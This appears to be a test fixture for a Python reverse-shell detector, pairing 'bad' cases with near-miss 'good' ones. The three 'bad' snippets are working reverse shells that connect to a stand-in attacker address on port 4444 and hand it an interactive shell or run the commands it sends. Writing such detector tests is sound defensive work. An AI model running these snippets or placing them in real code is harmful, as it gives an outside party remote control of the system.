# bad: the shell's descriptors are the socket
import os
import socket
import subprocess

s = socket.socket()
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
#                 ^^^^^^^^^^^^^
# bad: with a terminal, in a comprehension
import os, pty, socket

s = socket.create_connection(("203.0.113.7", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
# bad: command by command
import socket
import subprocess

s = socket.create_connection(("203.0.113.7", 4444))
while True:
    command = s.recv(4096).decode()
    s.sendall(subprocess.run(command, shell=True, capture_output=True).stdout)
# good: nearly: sends what a fixed command prints
import socket
import subprocess

s = socket.create_connection(("metrics.example", 2003))
s.sendall(subprocess.check_output(["uptime"]))
# good: nearly: reads lines and prints them
import socket

s = socket.create_connection(("irc.example", 6667))
while True:
    print(s.recv(4096).decode())
# good: a log file in place of standard output
import os

log = open("app.log", "a")
os.dup2(log.fileno(), 1)
